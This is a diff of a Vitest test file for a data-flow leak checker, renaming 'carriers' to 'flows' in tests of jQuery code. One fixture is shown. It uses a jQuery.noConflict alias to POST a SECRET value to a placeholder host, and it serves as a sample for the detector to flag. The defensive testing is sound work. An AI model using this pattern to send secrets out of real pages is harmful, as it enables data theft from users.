@@ -1,12 +1,12 @@
 import { describe, test } from "vitest";
 import {
-	type Carrier,
+	type DataFlow,
 	expectHarmlessOnOwnSite,
 	expectHarmlessWithoutSecret,
 	expectLeak,
-} from "../../testing/carriers.ts";
+} from "../../testing/data-flow-checks.ts";
 
-const CARRIERS: readonly Carrier[] = [
+const FLOWS: readonly DataFlow[] = [
 	[
 		"another name for it",
 		`const query = jQuery.noConflict(true); query.ajax({ url: "HOST", type: "POST", data: { text: SECRET } });`,
@@ -33,9 +33,9 @@ const CARRIERS: readonly Carrier[] = [
 ];
 
 describe("data through jQuery", () => {
-	test.each(CARRIERS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
-	test.each(CARRIERS)("%s carries nothing when there is nothing to carry", (_title, code) =>
+	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
+	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(CARRIERS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
+	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
 });
